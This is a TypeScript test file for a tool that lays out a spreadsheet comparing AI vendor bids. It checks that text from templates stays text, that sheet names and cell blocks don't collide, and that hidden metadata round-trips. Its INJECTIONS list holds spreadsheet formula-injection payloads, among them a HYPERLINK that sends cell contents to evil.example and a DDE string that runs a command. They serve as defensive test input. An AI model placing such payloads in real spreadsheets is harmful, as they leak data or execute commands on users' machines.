/**
 * The pure sheet plan: text stays text, formulas never carry template text, sheet names never collide,
 * blocks never overlap (nor a spill, nor the chart), and the hidden meta column round-trips the bids.
 */
import fc from "fast-check";
import schema from "../../src/templates/bid-template.schema.json";
import type { BidTemplate } from "../../src/templates/template";
import { parseCell } from "../../src/workbook/a1";
import { columnLetters } from "../../src/workbook/a1";
import { KEY_COLUMN } from "../../src/workbook/comparison/keys";
import { ComparisonProblem, fingerprint, freeSheetName, MAX_BIDS, planComparison, SCENARIO_NAMES } from "../../src/workbook/plan";
import { META_CHUNK, planCells, SheetPlan } from "../../src/workbook/sheet-plan";
import { asTemplate, GUIDE_SCENARIO, guideTemplates, handMadeTemplates, RICH_SCENARIO } from "./fixtures";

const INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(A1)", "=1+1", "'quoted", "=cmd|' /C calc'!A0", '"', "<b>bold</b>"];

/** A copy of the templates with every text field replaced by `f(original)`. */
function withTexts(templates: BidTemplate[], f: (s: string, k: number) => string): BidTemplate[] {
  let k = 0;
  const t = (s: string) => f(s, k++);
  return templates.map((tpl) => ({
    ...tpl,
    notes: t(tpl.notes ?? "notes"),
    questions: [t("q1"), t("q2")],
    sources: tpl.sources.map((s) => ({ ...s, title: t(s.title) })),
    reference: tpl.reference ? { ...tpl.reference, label: t(tpl.reference.label), note: t(tpl.reference.note) } : undefined,
    bid: {
      ...tpl.bid,
      vendor: t(tpl.bid.vendor),
      name: t(tpl.bid.name),
      supplied: tpl.bid.supplied?.map((s) => ({ ...s, label: t(s.label) })),
    },
  }));
}

function formulas(plan: SheetPlan): string[] {
  return [...planCells(plan)].filter((c) => c.cell.kind === "formula").map((c) => (c.cell as { formula: string }).formula);
}

describe("text from templates", () => {
  test("injection strings are text cells, whatever they start with", () => {
    const templates = withTexts(guideTemplates(), (_, k) => INJECTIONS[k % INJECTIONS.length]);
    const plan = planComparison({ scenario: GUIDE_SCENARIO, templates }, []);
    const texts = [...planCells(plan)].filter((c) => c.cell.kind === "text").map((c) => (c.cell as { value: string }).value);
    for (const s of INJECTIONS) expect(texts.some((t) => t.includes(s))).toBe(true);
    expect(texts).toContain(INJECTIONS[0]); // the first bid's notes, a cell of its own
    for (const f of formulas(plan)) expect(f).not.toMatch(/HYPERLINK|evil|cmd|SUM\(A1\)|quoted/);
  });

  test("no formula depends on any text of the templates (property)", () => {
    const base = handMadeTemplates().slice(0, 6);
    // Texts may change how many rows a block takes (a question said twice is listed once), so the rows
    // below move: compare the formulas without their references.
    const shapes = (plan: SheetPlan) => formulas(plan).map(fingerprint);
    const reference = shapes(planComparison({ scenario: RICH_SCENARIO, templates: withTexts(base, (_, k) => `text ${k}`) }, []));
    // Any one-line text a template may hold: the format's own rule for a line (no blanks, control
    // characters or line separators), read from the schema.
    const oneLine = new RegExp(schema.definitions.line.pattern, "u");
    const line = fc
      .string({ minLength: 1, maxLength: 40, unit: "grapheme" })
      .map((s) => s.trim())
      .filter((s) => oneLine.test(s));
    fc.assert(
      fc.property(fc.array(line, { minLength: 1, maxLength: 12 }), (strings) => {
        const templates = withTexts(base, (_, k) => strings[k % strings.length]);
        const plan = planComparison({ scenario: RICH_SCENARIO, templates }, []);
        expect(shapes(plan)).toEqual(reference);
      }),
      { numRuns: 60 },
    );
  });
});

describe("sheet names", () => {
  test("a new sheet never takes an existing name (compared without case)", () => {
    expect(freeSheetName([])).toBe("Bid comparison");
    expect(freeSheetName(["BID COMPARISON", "bid comparison 2", "Sheet1"])).toBe("Bid comparison 3");
    const plan = planComparison({ scenario: GUIDE_SCENARIO, templates: guideTemplates() }, ["Bid Comparison"]);
    expect(plan.sheetName).toBe("Bid comparison 2");
  });

  test("replacing keeps the given name", () => {
    const plan = planComparison({ scenario: GUIDE_SCENARIO, templates: guideTemplates() }, ["Bid comparison"], { sheetName: "Bid comparison" });
    expect(plan.sheetName).toBe("Bid comparison");
  });
});

describe("requests that cannot be built", () => {
  const fail = (f: () => unknown): string[] => {
    try {
      f();
    } catch (e) {
      expect(e).toBeInstanceOf(ComparisonProblem);
      return (e as ComparisonProblem).problems;
    }
    throw new Error("expected a ComparisonProblem");
  };

  test("no bids, too many bids, mixed currencies, a bad scenario", () => {
    expect(fail(() => planComparison({ scenario: GUIDE_SCENARIO, templates: [] }, []))).toEqual(["choose at least one bid"]);
    const many = Array.from({ length: MAX_BIDS + 1 }, (_, i) => ({ ...guideTemplates()[i % 3], id: `b-${i}` }));
    expect(fail(() => planComparison({ scenario: GUIDE_SCENARIO, templates: many }, []))).toEqual([`at most ${MAX_BIDS} bids fit on one comparison sheet (got ${MAX_BIDS + 1})`]);
    const eur = asTemplate("eur", { vendor: "E", name: "Euro bid", currency: "EUR", pricing: { model: "per-conversation", pricePerConversation: 0.5 } });
    expect(fail(() => planComparison({ scenario: GUIDE_SCENARIO, templates: [...guideTemplates(), eur] }, []))).toEqual(["the bids are in different currencies (USD, EUR); convert them to one currency before comparing"]);
    expect(fail(() => planComparison({ scenario: { ...GUIDE_SCENARIO, resolutionRate: 1.2 }, templates: guideTemplates() }, []))[0]).toMatch(/^scenario: resolution_rate must be a fraction from 0 to 1/);
    expect(fail(() => planComparison({ scenario: { ...GUIDE_SCENARIO, conversations: "100000" as unknown as number }, templates: guideTemplates() }, []))).toEqual(['scenario: conversations must be a number (got "100000")']);
  });
});

describe("layout", () => {
  const plans = [
    planComparison({ scenario: GUIDE_SCENARIO, templates: guideTemplates() }, []),
    planComparison({ scenario: RICH_SCENARIO, templates: handMadeTemplates() }, []),
    planComparison({ scenario: RICH_SCENARIO, templates: Array.from({ length: MAX_BIDS }, (_, i) => ({ ...handMadeTemplates()[i % 16], id: `b-${i}` })) }, []),
  ];

  test.each(plans.map((p) => [p.layout.bids.length, p]))("%p bids: no cell is planned twice, inside a spill or under the chart", (_, plan) => {
    const taken = new Map<string, string>();
    const claim = (row: number, col: number, what: string) => {
      const k = `${row},${col}`;
      if (taken.has(k)) throw new Error(`${what} overlaps ${taken.get(k)} at row ${row + 1}, column ${col + 1}`);
      taken.set(k, what);
    };
    for (const { block, row, col, cell } of planCells(plan)) {
      claim(row, col, block.id);
      if (cell.kind === "formula" && cell.spill) {
        for (let i = 0; i < cell.spill.rows; i++) for (let j = 0; j < cell.spill.cols; j++) if (i || j) claim(row + i, col + j, `${block.id} spill`);
      }
    }
    for (const chart of plan.charts) {
      const a = parseCell(chart.topLeft);
      const b = parseCell(chart.bottomRight);
      for (let r = a.row; r <= b.row; r++) for (let c = a.col; c <= b.col; c++) claim(r, c, "chart");
    }
  });

  test("the scenario names are unique, scoped cells of the scenario block", () => {
    const plan = plans[1];
    // Reasoning tokens and long prompts are named only when the scenario states them; the rules of
    // ranges that follow their value only when the scenario gives the usual ranges (it gives none here).
    const N = SCENARIO_NAMES;
    const stated = new Set<string>([
      N.reasoningTokens,
      N.longPromptShare,
      N.longPromptInputTokens,
      N.longPromptCachedInputTokens,
      N.longPromptOutputTokens,
      N.conversationsLowShare,
      N.conversationsHighShare,
      N.resolutionRateLowStep,
      N.resolutionRateHighStep,
      N.humanCostLowShare,
      N.humanCostHighShare,
    ]);
    expect(plan.names.map((n) => n.name).sort()).toEqual(
      Object.values(SCENARIO_NAMES)
        .filter((n) => !stated.has(n))
        .sort(),
    );
    for (const n of plan.names) expect(plan.layout.scenario[n.name]).toBe(n.address);
  });

  test("the plan is a pure function of its inputs", () => {
    const again = planComparison({ scenario: GUIDE_SCENARIO, templates: guideTemplates() }, []);
    expect(again).toEqual(plans[0]);
  });

  test("the hidden first row holds the column ids, the marker and the notes (the request, the inputs as written), cut below Excel's cell limit", () => {
    // 20 bids with the longest notes a template may have: more than one cell can hold.
    const long = Array.from({ length: 20 }, (_, i) => asTemplate(`long-${i}`, { vendor: "V", name: `Long notes ${i}`, currency: "USD", pricing: { model: "per-resolution", pricePerResolution: 1 } }, { notes: "x".repeat(4000) }));
    const plan = planComparison({ scenario: GUIDE_SCENARIO, templates: [...long, ...guideTemplates()] }, []);
    const key = columnLetters(KEY_COLUMN);
    expect(plan.hiddenColumns).toEqual([key]);
    expect(plan.hiddenRows).toEqual([0]);
    expect(plan.marker.cell).toBe(`${key}1`);
    const notes = plan.blocks.find((b) => b.id === "notes")!;
    expect(notes.topLeft).toBe(`${key}1`);
    const cells = notes.cells[0].map((c) => (c as { value: string }).value);
    expect(cells[0]).toBe("aiprice-comparison");
    const chunks = cells.slice(1);
    expect(chunks.length).toBeGreaterThanOrEqual(3);
    for (const c of chunks) expect(c.length).toBeLessThanOrEqual(META_CHUNK);
    const parsed = JSON.parse(chunks.join(""));
    expect(parsed.request.templates).toEqual([...long, ...guideTemplates()]);
    const price = parsed.inputs.find((x: { bid?: string; path: string }) => x.bid === "long-0" && x.path === "pricing.pricePerResolution");
    expect(price).toMatchObject({ kind: "number", written: 1, col: 1 });
    // Column ids in the first row, and every row's key in the key column.
    const ids = plan.blocks.filter((b) => b.id === "ids").flatMap((b) => b.cells[0]);
    expect(ids.map((c) => (c as { value: number }).value)).toEqual(Array.from({ length: KEY_COLUMN }, (_, i) => i + 1));
    const keys = plan.blocks.filter((b) => b.id === "keys").flatMap((b) => b.cells.map((r) => (r[0] as { value: string }).value));
    expect(keys).toEqual(plan.rowKeys.map((r) => r.key));
    expect(new Set(keys).size).toBe(keys.length);
  });

  test("every row has a key: a bid's rows are keyed by its template id, the same template twice by #2", () => {
    const plan = planComparison({ scenario: GUIDE_SCENARIO, templates: [...guideTemplates(), guideTemplates()[1]] }, []);
    expect(plan.layout.bids.map((b) => b.key)).toEqual(["guide-bid-a-per-token", "guide-bid-b-per-resolution", "guide-bid-c-revenue-share", "guide-bid-b-per-resolution#2"]);
    const rowOf = new Map(plan.rowKeys.map((r) => [r.key, r.row]));
    expect(rowOf.get("bid:guide-bid-b-per-resolution#2")! + 1).toBe(plan.layout.bids[3].row);
  });
});

describe("fingerprints", () => {
  test("a formula's fingerprint ignores its references (which move when rows are inserted), case and spaces", () => {
    expect(fingerprint("=AIPRICE.COST_PER_RESOLUTION(L14, E14)")).toBe(fingerprint("=aiprice.cost_per_resolution($L$15,E15)"));
    expect(fingerprint("=SUM('Bid comparison'!B5, Sheet2!C7)")).toBe(fingerprint("=SUM('Other'!B6, Sheet2!C8)"));
    expect(fingerprint("=LOG10(A1)")).not.toBe(fingerprint("=LOG11(A1)"));
    expect(fingerprint('=IF(A1=0, "A1", B1)')).not.toBe(fingerprint('=IF(A1=0, "A2", B1)'));
    expect(fingerprint("=L14/E14")).not.toBe(fingerprint("=AIPRICE.COST_PER_RESOLUTION(L14, E14)"));
  });
  test("values are themselves: 0.99 and 0.89 differ, text and number differ", () => {
    expect(fingerprint(0.99)).not.toBe(fingerprint(0.89));
    expect(fingerprint("1")).not.toBe(fingerprint(1));
    expect(fingerprint(null)).toBe(fingerprint(""));
  });
});
